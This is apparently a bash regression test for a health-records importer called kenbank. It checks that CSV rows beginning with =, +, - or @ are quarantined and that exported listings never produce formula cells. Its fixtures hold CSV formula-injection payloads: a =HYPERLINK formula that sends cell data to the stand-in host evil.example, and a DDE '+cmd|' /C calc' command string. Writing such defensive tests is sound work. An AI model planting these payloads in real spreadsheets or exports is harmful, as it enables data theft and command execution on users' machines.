#!/usr/bin/env bash
# CSV formula injection (issue 17, finding 6): exam and consent CSV rows whose
# names or identifiers start with = + - @, or whose institution number is not
# 10 digits, are quarantined with file, line, field and rule (never dropped);
# and what kenbank writes as CSV (here `quarantine list`, whose file column
# names a file called @SUM(...)) never hands a spreadsheet a formula cell.
set -euo pipefail
. "$(dirname "$0")/lib.sh"
K="$KENBANK"
cd "$WORK"
fail() { echo "FAIL: $*" >&2; exit 1; }

H='source,record_id,exam_date,performer_org,insurer_no,insured_symbol,insured_number,branch_no,family_name,given_name,family_kana,given_kana,sex,birth_date,postal_code,address,9N001000000000001'
F='@SUM(1+1).csv'
cat > "$F" <<CSV
$H
inst-a,r1,2024-05-10,1410000001,06140019,AB,123,00,試験,太郎,シケン,タロウ,1,1970-04-01,2310023,横浜市中区1,170.2
inst-a,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",2024-05-10,1410000001,06140019,AB,124,00,見本,花子,ミホン,ハナコ,2,1980-02-29,2100001,川崎市1,158.0
inst-a,r3,2024-05-10,141000000,06140019,AB,125,00,例示,一郎,レイジ,イチロウ,1,1975-01-01,2100001,川崎市2,160.0
inst-a,r4,2024-05-10,1410000001,06140019,AB,126,00,+cmd|' /C calc'!A0,次郎,レイジ,ジロウ,1,1976-01-01,2100001,川崎市3,161.0
inst-a,r5,2024-05-10,1410000001,-06140019,AB,127,00,例示,三郎,レイジ,サブロウ,1,1977-01-01,2100001,川崎市4,162.0
CSV

"$K" init --data d >/dev/null
set +e; out=$("$K" import --data d --source inst-a "$F"); rc=$?; set -e
[ $rc -eq 3 ] || fail "import with bad rows should exit 3, got $rc: $out"
grep -q '^exams accepted      1 ' <<<"$out" || fail "1 accepted expected: $out"
grep -q '^exams quarantined   4' <<<"$out" || fail "4 quarantined expected: $out"

q=$("$K" quarantine list --data d)
[ "$(tail -n +2 <<<"$q" | wc -l)" -eq 4 ] || fail "quarantine should list 4: $q"
# file, record (line), field and rule of each; the file name is written as
# text ("'@SUM...") rather than as a formula
grep -q "^1,open,inst-a,\"'@SUM(1+1).csv\",\"line 3 =HYPERLINK(.*)\",record_id,\"must not start with =, +, -, @" <<<"$q" ||
  fail "formula record id: $q"
grep -q "^2,open,inst-a,\"'@SUM(1+1).csv\",line 4 r3,performer_org,\"must be a 10-digit institution number, got '141000000'\"," <<<"$q" ||
  fail "short institution number: $q"
grep -q "^3,open,inst-a,\"'@SUM(1+1).csv\",line 5 r4,family_name,\"must not start with" <<<"$q" || fail "formula name: $q"
grep -q "^4,open,inst-a,\"'@SUM(1+1).csv\",line 6 r5,insurer_no,\"must not start with" <<<"$q" || fail "formula insurer number: $q"
# no cell of the listing starts with a formula character unquoted
! grep -Eq '(^|,)[=+@-]' <<<"$q" || fail "a formula cell in quarantine list: $q"
# the raw record is kept whole for correction
"$K" quarantine show --data d --id 1 | grep -q 'HYPERLINK' || fail "raw record of the formula row lost"

# consent CSV: the identifier and provider columns follow the same rule
{
  echo "source,record_id,purpose,provider,state,valid_from,valid_to,channel"
  echo "inst-a,r1,academic_research,,granted,2024-04-01,,paper"
  echo "inst-a,=1+2,academic_research,,granted,2024-04-01,,paper"
  echo "inst-a,r1,provider_sharing,@clinic,granted,2024-04-01,,paper"
  echo "=inst-a,r1,recontact,,granted,2024-04-01,,paper"
} > consents.csv
set +e; "$K" consent import --data d consents.csv > cout.txt 2> cerr.txt; rc=$?; set -e
[ "$rc" = 3 ] || { cat cout.txt cerr.txt; fail "consent import: exit $rc, expected 3"; }
grep -q "consents recorded   1" cout.txt || { cat cout.txt; fail "consent: expected 1 recorded"; }
grep -q "quarantined         3" cout.txt || { cat cout.txt; fail "consent: expected 3 quarantined"; }
grep -q "consents.csv:3: record_id: must not start with =" cerr.txt || { cat cerr.txt; fail "consent record_id"; }
grep -q "consents.csv:4: provider: must not start with =" cerr.txt || { cat cerr.txt; fail "consent provider"; }
grep -q "consents.csv:5: source: must not start with =" cerr.txt || { cat cerr.txt; fail "consent source"; }
[ "$("$K" quarantine list --data d | grep -c ',consent,')" = 3 ] || fail "3 consent quarantine entries expected"
echo "ok: 4 exam rows and 3 consent rows quarantined by rule; quarantine list holds no formula cell"
